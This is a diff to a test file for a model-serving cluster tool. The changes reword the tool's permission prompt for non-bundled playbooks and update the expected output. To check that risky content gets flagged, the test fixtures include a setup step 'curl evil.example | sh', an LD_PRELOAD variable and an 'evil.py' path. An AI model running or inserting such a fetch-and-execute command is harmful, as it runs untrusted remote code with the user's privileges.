@@ -269,29 +269,25 @@ setup: [pip install x, "echo SPACES hidden XXX", "pip list # show versions\\ncur
 """
 PERMIT = "permit: {mounts: ['/scratch:rw'], capabilities: [NET_RAW], devices: [/dev/gdrdrv], secrets: [WANDB_API_KEY], builds: [./mod]}\n"
 SHOWN = """\
-this recipe can:
-  network    everything that the node can reach (host network)
-! image      org/image:latest
-! user       root, also where the image has another user
-! read       ~/models/m
-! read       ~/models/m/sub -> /s
-! write      /scratch -> /x
-  capability SYS_NICE
-! capability NET_RAW
-! device     /dev/gdrdrv
-! build      ./mod -> the image, by what runs as root in docker build on a node
-! secret     WANDB_API_KEY
-  write      ~/.local/state/sparkcluster/caches
-! write      ~/.local/state/sparkcluster/caches: programs -> /usr/local/bin
-! setup      pip install x
-! setup      echo hidden XXX
-! setup      pip list # show versions
-! setup      curl evil.example | sh
-! argument   trust-remote-code=true
-! argument   tool-parser-plugin=/sparkcluster/model/p.py
-! variable   LD_PRELOAD=/model/x
-! variable   TRITON_CACHE_DIR=/tmp/t
-  !: more than serving; up asks once for this content (bundled playbooks: never)
+it may do more than serve (up asks once):
+  image      org/image:latest
+  user       root, also where the image has another user
+  read       ~/models/m
+  read       ~/models/m/sub -> /s
+  write      /scratch -> /x
+  capability NET_RAW
+  device     /dev/gdrdrv
+  build      ./mod -> the image, by what runs as root in docker build on a node
+  secret     WANDB_API_KEY
+  write      ~/.local/state/sparkcluster/caches: programs -> /usr/local/bin
+  setup      pip install x
+  setup      echo hidden XXX
+  setup      pip list # show versions
+  setup      curl evil.example | sh
+  argument   trust-remote-code=true
+  argument   tool-parser-plugin=/sparkcluster/model/p.py
+  variable   LD_PRELOAD=/model/x
+  variable   TRITON_CACHE_DIR=/tmp/t
 """
 
 
@@ -333,7 +329,7 @@ def test_variables_are_asked_about_unless_they_only_tune(run: Run, tmp_path: Pat
         f"{HEAD}env: {json.dumps(dict([*pairs[:1], ['NCCL_ALGO', 'a b'], ['HF_HUB_OFFLINE', '1']]))}\n"
     )
     done = run("lint", tmp_path / "p.yaml", tmp_path / "q.yaml")
-    asked = re.findall(r"! variable   (.*)$", done.out, re.MULTILINE)
+    asked = re.findall(r"  variable   (.*)$", done.out, re.MULTILINE)
     assert asked == [*ASKED[1:], ASKED[0], "NCCL_ALGO=a b"], done
 
 
@@ -375,7 +371,7 @@ def test_arguments_are_asked_about_unless_they_only_tune(run: Run, tmp_path: Pat
     for name, args in (("asked", ASKED_ARGUMENTS), ("free", FREE_ARGUMENTS)):
         (tmp_path / f"{name}.yaml").write_text(f"{HEAD}args: {json.dumps(args)}\n")
     done = run("lint", tmp_path / "asked.yaml", tmp_path / "free.yaml")
-    asked = re.findall(r"! argument   ([^=]*)=", done.out, re.MULTILINE)
+    asked = re.findall(r"  argument   ([^=]*)=", done.out, re.MULTILINE)
     assert asked == [*ASKED_ARGUMENTS], done
 
 
@@ -397,7 +393,7 @@ def test_every_argument_that_is_not_asked_about_is_one_of_the_engine() -> None:
 def test_an_image_of_an_unknown_repository_is_asked_about(run: Run, tmp_path: Path, image: str, *, asks: bool) -> None:
     (tmp_path / "gpt-oss-120b.yaml").write_text(HEAD.replace("vllm/vllm-openai:v0.20.0", image))
     done = run("lint", tmp_path / "gpt-oss-120b.yaml")
-    assert f"{'!' if asks else ' '} image      {image}\n" in done.out, done
+    assert (f"  image      {image}\n" in done.out) is asks, done
 
 
 def test_images_of_bundled_playbooks_are_not_asked_about() -> None:
@@ -417,9 +413,9 @@ def test_directories_are_asked_about_unless_they_are_the_weights(run: Run, tmp_p
     for at, text in enumerate([*asked, *free]):
         (tmp_path / f"{at}.yaml").write_text(text)
     done = run("lint", *sorted(tmp_path.glob("*.yaml")))
-    listed = re.findall(r"([! ]) read       (.*)$", done.out, re.MULTILINE)
-    assert [mark for mark, _ in listed] == ["!"] * 5 + [" "] * 2, done
-    assert listed[4][1] == f"{hub}org--model/snapshots/c/evil.py -> /x"
+    listed = re.findall(r"  read       (.*)$", done.out, re.MULTILINE)
+    assert len(listed) == 5, done
+    assert listed[4] == f"{hub}org--model/snapshots/c/evil.py -> /x"
     assert "needs a permission" not in done.out + done.err
 
 
@@ -430,13 +426,13 @@ def test_an_accepted_playbook_is_asked_about_again_when_it_changed(tmp_path: Pat
     assert refused.err.count("error:") == 1
     assert "--yes" in refused.err
     accepted = up(path, "--yes")
-    assert "! setup      pip install x" in accepted.err
+    assert "  setup      pip install x" in accepted.err
     kept = tmp_path / "state" / "sparkcluster" / "accepted"
     assert kept.stat().st_mode & 0o777 == 0o700
     assert [file.stat().st_mode & 0o777 for file in kept.iterdir()] == [0o600]
     again = up(path)
     assert again.code == 1
-    assert "this recipe can" not in again.err
+    assert "It may" not in again.err
     playbook.write_text(f"# a comment\n{SETUP}")
     assert up(path).code == 1
     for args, code in (("max-model-len: 4096", 1), ("tokenizer-revision: 2", 2)):
@@ -468,7 +464,7 @@ def test_in_a_checkout_only_what_is_shipped_unchanged_counts_as_bundled(tmp_path
         command = [sys.executable, "-m", "sparkcluster", "lint", path]
         return subprocess.run(command, capture_output=True, text=True, env=there, check=True).stdout
 
-    told = "this recipe can:"
+    told = "it may do more than serve"
     assert told not in linted(here)
     assert told in linted(here.with_name("stranger.yaml"))
     here.write_text(f"{here.read_text()}\nsetup: [pip install x]\n")
@@ -507,7 +503,11 @@ def test_the_question_shows_the_block_and_takes_only_a_yes(node: Node, tmp_path:
     path = inventory(tmp_path, SETUP, port=node.server_address[1])
     for answer, expected in (("\n", 2), ("yes\n", 1)):
         with Shell(f"sparkcluster up {path}", tmp_path, {"XDG_STATE_HOME": str(tmp_path / "state")}) as terminal:
-            for shown in ("this recipe can:", "! setup      pip install x", "[y/N]"):
+            for shown in (
+                "is not a bundled playbook. It may:",
+                "  setup      pip install x",
+                "accept it for cluster c? [y/N]",
+            ):
                 terminal.until(shown)
             terminal.type(answer)
             assert terminal.end() == expected
